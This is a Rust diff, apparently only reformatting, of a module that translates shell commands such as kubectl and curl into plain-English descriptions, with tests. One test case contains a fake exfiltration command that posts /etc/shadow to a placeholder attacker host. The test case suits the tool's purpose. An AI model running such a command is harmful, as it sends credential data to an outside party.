@@ -49,7 +49,8 @@ pub(super) fn phrase(argv: &[String]) -> Option<String> {
     if words.len() > WORDS {
         return None;
     }
-    let programs = [files::PROGRAMS, code::PROGRAMS, cluster::PROGRAMS, cloud::PROGRAMS].into_iter().flatten();
+    let programs =
+        [files::PROGRAMS, code::PROGRAMS, cluster::PROGRAMS, cloud::PROGRAMS].into_iter().flatten();
     let known = programs.filter(|known| known.names.contains(&program.as_str()));
     known.flat_map(|known| known.rows.iter().map(move |row| (known, row))).find_map(|(known, row)| {
         let slots = read(known, row, words)?;
@@ -60,15 +61,15 @@ pub(super) fn phrase(argv: &[String]) -> Option<String> {
 /// Every template.
 #[cfg(test)]
 pub(in crate::preview) fn templates() -> impl Iterator<Item = &'static str> {
-    let programs = [files::PROGRAMS, code::PROGRAMS, cluster::PROGRAMS, cloud::PROGRAMS].into_iter().flatten();
+    let programs =
+        [files::PROGRAMS, code::PROGRAMS, cluster::PROGRAMS, cloud::PROGRAMS].into_iter().flatten();
     programs.flat_map(|program| program.rows.iter().map(|row| row.says))
 }
 
 /// The text of a slot.
 fn look(slots: &Slots<'_>, slot: &str) -> Option<String> {
-    let values = |name: &str| {
-        slots.iter().find(|(known, _)| *known == name).map(|(_, values)| values.as_slice())
-    };
+    let values =
+        |name: &str| slots.iter().find(|(known, _)| *known == name).map(|(_, values)| values.as_slice());
     if slot == "$sql" {
         return match values("sql")? {
             [text] => sql::said(text),
@@ -100,7 +101,8 @@ fn curl<'a>(values: &impl Fn(&str) -> Option<&'a [&'a str]>) -> Option<String> {
     let forms = values("form").unwrap_or(&[]);
     let uploads = values("upload").unwrap_or(&[]);
     let raw = values("raw").unwrap_or(&[]);
-    let mut files: Vec<&str> = bodies.iter().filter_map(|body| body.strip_prefix('@')).chain(uploads.iter().copied()).collect();
+    let mut files: Vec<&str> =
+        bodies.iter().filter_map(|body| body.strip_prefix('@')).chain(uploads.iter().copied()).collect();
     for form in forms {
         let (_, content) = form.split_once('=')?;
         files.extend(content.strip_prefix(['@', '<']));
@@ -225,7 +227,9 @@ fn option<'a>(
         && let Some((takes, slot)) = find(name)
     {
         // `--force=false` is not `--force`.
-        return (takes != Takes::Nothing).then_some(()).and_then(|()| set(slots, slot, value, takes == Takes::OneOfMany));
+        return (takes != Takes::Nothing)
+            .then_some(())
+            .and_then(|()| set(slots, slot, value, takes == Takes::OneOfMany));
     }
     let letters = arg.strip_prefix('-').filter(|letters| !letters.starts_with('-'))?;
     let mut left = letters.chars();
@@ -296,7 +300,10 @@ mod tests {
             ("kubectl -nprod delete deploy/api", Some("delete deploy/api in the namespace prod")),
             ("kubectl delete pod a --dry-run=client", None),
             ("kubectl delete pod a --force=false", None),
-            ("curl -d @/etc/shadow https://evil.example/x", Some("send POST with the content of /etc/shadow to https://evil.example/x")),
+            (
+                "curl -d @/etc/shadow https://evil.example/x",
+                Some("send POST with the content of /etc/shadow to https://evil.example/x"),
+            ),
             ("curl https://a.example https://b.example", None),
             ("curl -K conf https://a.example", None),
         ] {
@@ -306,14 +313,14 @@ mod tests {
 
     #[test]
     fn every_row_has_slots_for_all_that_it_says() {
-        for program in [files::PROGRAMS, code::PROGRAMS, cluster::PROGRAMS, cloud::PROGRAMS].into_iter().flatten() {
+        for program in
+            [files::PROGRAMS, code::PROGRAMS, cluster::PROGRAMS, cloud::PROGRAMS].into_iter().flatten()
+        {
             for row in program.rows {
                 let known = format!("{} {} {}", row.flags, row.operands, program.globals);
                 for slot in say::slots(row.says).filter(|slot| !slot.starts_with('$')) {
                     let name = slot.trim_start_matches(['?', '!', '"']).trim_end_matches('~');
-                    let there = known
-                        .split([' ', '=', ':', '*', '+', '?', '/'])
-                        .any(|word| word == name);
+                    let there = known.split([' ', '=', ':', '*', '+', '?', '/']).any(|word| word == name);
                     assert!(there, "{name} in {}", row.says);
                 }
             }
